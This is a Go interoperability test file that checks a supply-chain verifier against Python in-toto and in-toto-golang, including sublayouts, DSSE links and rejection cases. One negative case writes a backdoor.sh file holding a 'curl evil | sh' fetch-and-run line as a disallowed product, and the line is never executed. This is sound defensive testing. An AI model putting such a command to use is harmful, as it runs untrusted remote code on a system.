//go:build interop

package interop

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	golang "github.com/in-toto/in-toto-golang/in_toto"

	"tollgate.dev/tollgate/policy/envelope"
	"tollgate.dev/tollgate/policy/intoto"
	"tollgate.dev/tollgate/policy/keys"
	"tollgate.dev/tollgate/policy/reason"
	"tollgate.dev/tollgate/test/toolcheck"
)

// makeLayoutPy writes a layout with Python in-toto's own model classes and signs it.
const makeLayoutPy = `
import json, sys
from securesystemslib.interface import import_publickeys_from_file, import_privatekey_from_file
from in_toto.models.layout import Layout, Step
from in_toto.models.metadata import Metablock

spec = json.load(open(sys.argv[1]))
keys = {}
for name, (path, typ) in spec["keys"].items():
    keys[name] = list(import_publickeys_from_file([path], [typ]).values())[0]
layout = Layout()
layout.keys = {k["keyid"]: k for k in keys.values()}
layout.expires = spec["expires"]
for s in spec["steps"]:
    step = Step(name=s["name"])
    step.pubkeys = [keys[n]["keyid"] for n in s["pubkeys"]]
    step.threshold = s.get("threshold", 1)
    step.expected_command = s.get("expected_command", [])
    step.expected_materials = s["expected_materials"]
    step.expected_products = s["expected_products"]
    layout.steps.append(step)
layout.validate()
mb = Metablock(signed=layout)
mb.sign(import_privatekey_from_file(spec["sign_key"], spec["sign_type"]))
mb.dump(spec["out"])
`

// pyEnv is a working directory with Python-generated keys: owner and owner2 (rsa, layout
// keys), alice (ed25519), bob (ecdsa), carol (rsa) as functionaries.
type pyEnv struct {
	t                 *testing.T
	dir, work, script string
	keyType           map[string]string
}

func newPyEnv(t *testing.T) *pyEnv {
	toolcheck.RequirePythonInToto(t)
	e := &pyEnv{t: t, dir: t.TempDir(), keyType: map[string]string{
		"owner": "rsa", "owner2": "rsa", "alice": "ed25519", "bob": "ecdsa", "carol": "rsa"}}
	e.work = filepath.Join(e.dir, "work")
	e.script = filepath.Join(e.dir, "make_layout.py")
	if err := os.MkdirAll(e.work, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(e.script, []byte(makeLayoutPy), 0o644); err != nil {
		t.Fatal(err)
	}
	for name, typ := range e.keyType {
		args := []string{"-t", typ}
		if typ == "rsa" {
			args = append(args, "-b", "2048")
		}
		e.run(e.dir, toolcheck.InTotoKeygen, append(args, name)...)
	}
	return e
}

func (e *pyEnv) run(dir, name string, args ...string) {
	e.t.Helper()
	cmd := exec.Command(name, args...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		e.t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
}

func (e *pyEnv) key(name string) string { return filepath.Join(e.dir, name) }

// step runs one supply-chain step under in-toto-run, signed by functionary, in the work
// directory, and moves the link into linkDir.
func (e *pyEnv) step(linkDir, name, functionary string, materials, products []string, command ...string) {
	e.t.Helper()
	args := []string{"-n", name, "-k", e.key(functionary), "-t", e.keyType[functionary]}
	if len(materials) > 0 {
		args = append(append(args, "-m"), materials...)
	}
	if len(products) > 0 {
		args = append(append(args, "-p"), products...)
	}
	e.run(e.work, toolcheck.InTotoRun, append(append(args, "--"), command...)...)
	links, _ := filepath.Glob(filepath.Join(e.work, name+".*.link"))
	if len(links) != 1 {
		e.t.Fatalf("in-toto-run wrote %v", links)
	}
	if err := os.MkdirAll(linkDir, 0o755); err != nil {
		e.t.Fatal(err)
	}
	if err := os.Rename(links[0], filepath.Join(linkDir, filepath.Base(links[0]))); err != nil {
		e.t.Fatal(err)
	}
}

type pyStep struct {
	Name              string     `json:"name"`
	PubKeys           []string   `json:"pubkeys"`
	Threshold         int        `json:"threshold,omitempty"`
	ExpectedCommand   []string   `json:"expected_command,omitempty"`
	ExpectedMaterials [][]string `json:"expected_materials"`
	ExpectedProducts  [][]string `json:"expected_products"`
}

func pyRules(rs ...string) [][]string {
	out := [][]string{}
	for _, r := range rs {
		out = append(out, strings.Fields(r))
	}
	return out
}

// layout writes a layout with Python's API, signed by owner, listing every functionary.
func (e *pyEnv) layout(out, expires string, steps []pyStep) string {
	e.t.Helper()
	return e.layoutBy(out, expires, steps, "owner", []string{"alice", "bob", "carol"})
}

// layoutBy writes a layout listing the named functionary keys, signed by signer.
func (e *pyEnv) layoutBy(out, expires string, steps []pyStep, signer string, functionaries []string) string {
	e.t.Helper()
	ks := map[string][2]string{}
	for _, name := range functionaries {
		ks[name] = [2]string{e.key(name) + ".pub", e.keyType[name]}
	}
	spec, _ := json.Marshal(map[string]any{"keys": ks, "expires": expires, "steps": steps,
		"sign_key": e.key(signer), "sign_type": e.keyType[signer], "out": out})
	specPath := out + ".spec.json"
	if err := os.WriteFile(specPath, spec, 0o644); err != nil {
		e.t.Fatal(err)
	}
	e.run(e.dir, toolcheck.Python, e.script, specPath)
	return out
}

// standardSteps: build (alice, ed25519) packs foo.py; test (bob, ecdsa) checks the
// tarball; package (carol, rsa) turns it into the release.
func standardSteps() []pyStep {
	return []pyStep{
		{Name: "build", PubKeys: []string{"alice"}, ExpectedCommand: []string{"tar", "czf", "foo.tar.gz", "foo.py"},
			ExpectedMaterials: pyRules("ALLOW foo.py", "DISALLOW *"), ExpectedProducts: pyRules("CREATE foo.tar.gz", "ALLOW foo.py", "DISALLOW *")},
		{Name: "test", PubKeys: []string{"bob"},
			ExpectedMaterials: pyRules("MATCH foo.tar.gz WITH PRODUCTS FROM build", "DISALLOW *"),
			ExpectedProducts:  pyRules("CREATE report.txt", "ALLOW foo.tar.gz", "DISALLOW *")},
		{Name: "package", PubKeys: []string{"carol"},
			ExpectedMaterials: pyRules("MATCH foo.tar.gz WITH PRODUCTS FROM build", "DISALLOW *"),
			ExpectedProducts:  pyRules("CREATE release.tar", "ALLOW foo.tar.gz", "DISALLOW *")},
	}
}

// runStandardSteps records the three standard steps' links into linkDir.
func (e *pyEnv) runStandardSteps(linkDir string) {
	if err := os.WriteFile(filepath.Join(e.work, "foo.py"), []byte("print('hello')\n"), 0o644); err != nil {
		e.t.Fatal(err)
	}
	e.step(linkDir, "build", "alice", []string{"foo.py"}, []string{"foo.py", "foo.tar.gz"}, "tar", "czf", "foo.tar.gz", "foo.py")
	e.step(linkDir, "test", "bob", []string{"foo.tar.gz"}, []string{"foo.tar.gz", "report.txt"}, "sh", "-c", "tar tzf foo.tar.gz > report.txt")
	e.step(linkDir, "package", "carol", []string{"foo.tar.gz"}, []string{"foo.tar.gz", "release.tar"}, "tar", "cf", "release.tar", "foo.tar.gz")
}

// verifyBoth runs our verifier and in-toto-verify on the same files; each returns nil on
// success.
func (e *pyEnv) verifyBoth(layoutPath, linkDir string, layoutKeys ...string) (ours error, python error, pyOut string) {
	e.t.Helper()
	if len(layoutKeys) == 0 {
		layoutKeys = []string{"owner"}
	}
	ours = e.verifyOurs(layoutPath, linkDir, layoutKeys)
	args := []string{"-l", layoutPath, "--link-dir", linkDir, "-k"}
	for _, k := range layoutKeys {
		args = append(args, e.key(k)+".pub")
	}
	cmd := exec.Command(toolcheck.InTotoVerify, args...)
	cmd.Dir = e.work
	out, err := cmd.CombinedOutput()
	return ours, err, string(out)
}

func (e *pyEnv) verifyOurs(layoutPath, linkDir string, layoutKeys []string) error {
	e.t.Helper()
	data, err := os.ReadFile(layoutPath)
	if err != nil {
		e.t.Fatal(err)
	}
	signed, err := envelope.Parse(data)
	if err != nil {
		return err
	}
	var ks []*keys.Key
	for _, name := range layoutKeys {
		pub, err := os.ReadFile(e.key(name) + ".pub")
		if err != nil {
			e.t.Fatal(err)
		}
		k, err := keys.ParsePublic(pub)
		if err != nil {
			e.t.Fatalf("parsing %s.pub: %v", name, err)
		}
		ks = append(ks, k)
	}
	files := map[string][]byte{}
	_ = filepath.WalkDir(linkDir, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			rel, _ := filepath.Rel(linkDir, p)
			b, rerr := os.ReadFile(p)
			if rerr != nil {
				e.t.Fatal(rerr)
			}
			files[filepath.ToSlash(rel)] = b
		}
		return nil
	})
	links, err := intoto.NewLinks(files)
	if err != nil {
		return err
	}
	_, err = intoto.Verify(signed, ks, links)
	return err
}

func TestPythonLayoutAndLinksVerify(t *testing.T) {
	e := newPyEnv(t)
	linkDir := filepath.Join(e.dir, "links")
	e.runStandardSteps(linkDir)
	layout := e.layout(filepath.Join(e.dir, "root.layout"), "2099-01-01T00:00:00Z", standardSteps())
	ours, py, out := e.verifyBoth(layout, linkDir)
	if py != nil {
		t.Fatalf("in-toto-verify rejected the reference supply chain: %v\n%s", py, out)
	}
	if ours != nil {
		t.Fatalf("Tollgate rejected what in-toto-verify accepts: %v", ours)
	}
}

// TestPythonNegativeCases: every case in-toto-verify rejects, Tollgate rejects too, with
// the matching kind of reason.
func TestPythonNegativeCases(t *testing.T) {
	e := newPyEnv(t)
	good := filepath.Join(e.dir, "good-links")
	e.runStandardSteps(good)
	layout := e.layout(filepath.Join(e.dir, "root.layout"), "2099-01-01T00:00:00Z", standardSteps())

	cases := []struct {
		name  string
		setup func(t *testing.T, linkDir string) (layoutPath string, layoutKeys []string)
		kind  reason.Kind
	}{
		{"tampered link", func(t *testing.T, d string) (string, []string) {
			p := onlyLink(t, d, "test")
			data, _ := os.ReadFile(p)
			var m map[string]any
			if err := json.Unmarshal(data, &m); err != nil {
				t.Fatal(err)
			}
			m["signed"].(map[string]any)["products"].(map[string]any)["report.txt"] = map[string]any{"sha256": strings.Repeat("0", 64)}
			data, _ = json.Marshal(m)
			writeFile(t, p, data)
			return layout, nil
		}, reason.BadSignature},
		{"wrong layout key", func(t *testing.T, d string) (string, []string) { return layout, []string{"owner2"} }, reason.BadSignature},
		{"expired layout", func(t *testing.T, d string) (string, []string) {
			return e.layout(filepath.Join(e.dir, "expired.layout"), "2020-01-01T00:00:00Z", standardSteps()), nil
		}, reason.Expired},
		{"missing link", func(t *testing.T, d string) (string, []string) {
			if err := os.Remove(onlyLink(t, d, "package")); err != nil {
				t.Fatal(err)
			}
			return layout, nil
		}, reason.MissingEvidence},
		{"unauthorized functionary", func(t *testing.T, d string) (string, []string) {
			if err := os.Remove(onlyLink(t, d, "package")); err != nil {
				t.Fatal(err)
			}
			e.step(d, "package", "alice", []string{"foo.tar.gz"}, []string{"foo.tar.gz", "release.tar"}, "tar", "cf", "release.tar", "foo.tar.gz")
			return layout, nil
		}, reason.Threshold},
		{"MATCH violation", func(t *testing.T, d string) (string, []string) {
			// The tarball changes between build and package.
			if err := os.Remove(onlyLink(t, d, "package")); err != nil {
				t.Fatal(err)
			}
			writeFile(t, filepath.Join(e.work, "foo.tar.gz"), []byte("not the built tarball"))
			e.step(d, "package", "carol", []string{"foo.tar.gz"}, []string{"foo.tar.gz", "release.tar"}, "tar", "cf", "release.tar", "foo.tar.gz")
			return layout, nil
		}, reason.RuleViolation},
		{"DISALLOW violation", func(t *testing.T, d string) (string, []string) {
			if err := os.Remove(onlyLink(t, d, "build")); err != nil {
				t.Fatal(err)
			}
			writeFile(t, filepath.Join(e.work, "foo.py"), []byte("print('hello')\n"))
			writeFile(t, filepath.Join(e.work, "backdoor.sh"), []byte("curl evil | sh\n"))
			e.step(d, "build", "alice", []string{"foo.py"}, []string{"foo.py", "foo.tar.gz", "backdoor.sh"}, "tar", "czf", "foo.tar.gz", "foo.py")
			return layout, nil
		}, reason.RuleViolation},
		{"threshold not met", func(t *testing.T, d string) (string, []string) {
			steps := standardSteps()
			steps[1].PubKeys, steps[1].Threshold = []string{"bob", "carol"}, 2
			return e.layout(filepath.Join(e.dir, "threshold.layout"), "2099-01-01T00:00:00Z", steps), nil
		}, reason.Threshold},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			linkDir := filepath.Join(e.dir, "case-"+strings.ReplaceAll(tc.name, " ", "-"))
			copyDir(t, good, linkDir)
			// Some cases re-run steps in the shared work directory; restore its inputs.
			restoreWork(t, e)
			layoutPath, lk := tc.setup(t, linkDir)
			ours, py, out := e.verifyBoth(layoutPath, linkDir, lk...)
			if py == nil {
				t.Fatalf("in-toto-verify accepted the %s case; the case is wrong\n%s", tc.name, out)
			}
			if ours == nil {
				t.Fatalf("Tollgate accepted what in-toto-verify rejects:\n%s", out)
			}
			if k := reason.KindOf(ours); k != tc.kind {
				t.Errorf("kind = %s, want %s: %v", k, tc.kind, ours)
			}
			t.Logf("tollgate: %v", ours)
			t.Logf("in-toto-verify: %s", lastLine(out))
		})
	}
}

// TestPythonSublayout: bob's step "qa" is delegated to a sublayout bob signs, whose step
// "check" carol performs. Python reads the sublayout from "qa.<bob[:8]>.link" and its links
// from "qa.<bob[:8]>/"; Tollgate must agree, in acceptance and in rejection.
func TestPythonSublayout(t *testing.T) {
	e := newPyEnv(t)
	linkDir := filepath.Join(e.dir, "links")
	writeFile(t, filepath.Join(e.work, "foo.py"), []byte("print('hello')\n"))
	e.step(linkDir, "build", "alice", []string{"foo.py"}, []string{"foo.py", "foo.tar.gz"}, "tar", "czf", "foo.tar.gz", "foo.py")
	bobID := keyIDOf(t, e, "bob")
	subDir := filepath.Join(linkDir, "qa."+bobID[:8])
	e.step(subDir, "check", "carol", []string{"foo.tar.gz"}, []string{"foo.tar.gz", "report.txt"}, "sh", "-c", "tar tzf foo.tar.gz > report.txt")
	e.layoutBy(filepath.Join(linkDir, "qa."+bobID[:8]+".link"), "2099-01-01T00:00:00Z", []pyStep{
		{Name: "check", PubKeys: []string{"carol"},
			ExpectedMaterials: pyRules("ALLOW foo.tar.gz", "DISALLOW *"),
			ExpectedProducts:  pyRules("CREATE report.txt", "ALLOW foo.tar.gz", "DISALLOW *")},
	}, "bob", []string{"carol"})
	layout := e.layout(filepath.Join(e.dir, "root.layout"), "2099-01-01T00:00:00Z", []pyStep{
		{Name: "build", PubKeys: []string{"alice"},
			ExpectedMaterials: pyRules("ALLOW foo.py", "DISALLOW *"), ExpectedProducts: pyRules("CREATE foo.tar.gz", "ALLOW foo.py", "DISALLOW *")},
		{Name: "qa", PubKeys: []string{"bob"},
			ExpectedMaterials: pyRules("MATCH foo.tar.gz WITH PRODUCTS FROM build", "DISALLOW *"),
			ExpectedProducts:  pyRules("ALLOW report.txt", "ALLOW foo.tar.gz", "DISALLOW *")},
	})
	ours, py, out := e.verifyBoth(layout, linkDir)
	if py != nil || ours != nil {
		t.Fatalf("sublayout: tollgate %v; in-toto-verify %v\n%s", ours, py, out)
	}
	// Without the sublayout's own link, both reject.
	if err := os.Remove(onlyLink(t, subDir, "check")); err != nil {
		t.Fatal(err)
	}
	ours, py, out = e.verifyBoth(layout, linkDir)
	if py == nil || ours == nil {
		t.Fatalf("missing sublayout link: tollgate %v; in-toto-verify %v\n%s", ours, py, out)
	}
	if reason.KindOf(ours) != reason.MissingEvidence || !strings.HasPrefix(ours.Error(), `step "qa/check"`) {
		t.Errorf("tollgate: %v", ours)
	}
}

// TestGolangDSSELink: a link recorded by in-toto-golang with --use-dsse semantics (a DSSE
// envelope whose payload is the link) verifies next to Python's Metablock links, found by
// its name and signer although in-toto-golang computes its own keyid for carol's key.
func TestGolangDSSELink(t *testing.T) {
	e := newPyEnv(t)
	linkDir := filepath.Join(e.dir, "links")
	writeFile(t, filepath.Join(e.work, "foo.py"), []byte("print('hello')\n"))
	e.step(linkDir, "build", "alice", []string{"foo.py"}, []string{"foo.py", "foo.tar.gz"}, "tar", "czf", "foo.tar.gz", "foo.py")

	var key golang.Key
	if err := key.LoadKeyDefaults(e.key("carol")); err != nil {
		t.Fatal(err)
	}
	w := e.work + "/"
	md, err := golang.InTotoRun("test", e.work, []string{w + "foo.tar.gz"}, []string{w + "foo.tar.gz", w + "report.txt"},
		[]string{"sh", "-c", "tar tzf foo.tar.gz > report.txt"}, key, []string{"sha256"}, nil, []string{w}, false, false, true)
	if err != nil {
		t.Fatal(err)
	}
	if err := md.Dump(filepath.Join(linkDir, "test-by-in-toto-golang.json")); err != nil {
		t.Fatal(err)
	}
	layout := e.layout(filepath.Join(e.dir, "root.layout"), "2099-01-01T00:00:00Z", []pyStep{
		{Name: "build", PubKeys: []string{"alice"},
			ExpectedMaterials: pyRules("ALLOW foo.py", "DISALLOW *"), ExpectedProducts: pyRules("CREATE foo.tar.gz", "ALLOW foo.py", "DISALLOW *")},
		{Name: "test", PubKeys: []string{"carol"},
			ExpectedMaterials: pyRules("MATCH foo.tar.gz WITH PRODUCTS FROM build", "DISALLOW *"),
			ExpectedProducts:  pyRules("CREATE report.txt", "ALLOW foo.tar.gz", "DISALLOW *")},
	})
	if err := e.verifyOurs(layout, linkDir, []string{"owner"}); err != nil {
		t.Fatalf("in-toto-golang DSSE link rejected: %v", err)
	}
	// The same link signed by a functionary the step does not authorize is ignored.
	var other golang.Key
	if err := other.LoadKeyDefaults(e.key("owner2")); err != nil {
		t.Fatal(err)
	}
	md, err = golang.InTotoRun("test", e.work, []string{w + "foo.tar.gz"}, []string{w + "foo.tar.gz", w + "report.txt"},
		[]string{"true"}, other, []string{"sha256"}, nil, []string{w}, false, false, true)
	if err != nil {
		t.Fatal(err)
	}
	if err := md.Dump(filepath.Join(linkDir, "test-by-in-toto-golang.json")); err != nil {
		t.Fatal(err)
	}
	err = e.verifyOurs(layout, linkDir, []string{"owner"})
	if reason.KindOf(err) != reason.Threshold || !strings.Contains(err.Error(), "0 of 1 required links") {
		t.Fatalf("link by an unauthorized key: %v", err)
	}
}

func keyIDOf(t *testing.T, e *pyEnv, name string) string {
	pub, err := os.ReadFile(e.key(name) + ".pub")
	if err != nil {
		t.Fatal(err)
	}
	k, err := keys.ParsePublic(pub)
	if err != nil {
		t.Fatal(err)
	}
	return k.ID
}

func restoreWork(t *testing.T, e *pyEnv) {
	_ = os.Remove(filepath.Join(e.work, "backdoor.sh"))
	writeFile(t, filepath.Join(e.work, "foo.py"), []byte("print('hello')\n"))
	cmd := exec.Command("tar", "czf", "foo.tar.gz", "foo.py")
	cmd.Dir = e.work
	_ = cmd.Run()
}

func onlyLink(t *testing.T, dir, step string) string {
	t.Helper()
	m, _ := filepath.Glob(filepath.Join(dir, step+".*.link"))
	if len(m) != 1 {
		t.Fatalf("links for %s in %s: %v", step, dir, m)
	}
	return m[0]
}

func writeFile(t *testing.T, p string, data []byte) {
	t.Helper()
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

func copyDir(t *testing.T, from, to string) {
	t.Helper()
	if err := os.MkdirAll(to, 0o755); err != nil {
		t.Fatal(err)
	}
	entries, err := os.ReadDir(from)
	if err != nil {
		t.Fatal(err)
	}
	for _, en := range entries {
		data, err := os.ReadFile(filepath.Join(from, en.Name()))
		if err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(to, en.Name()), data)
	}
}

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return string(bytes.TrimSpace([]byte(lines[len(lines)-1])))
}
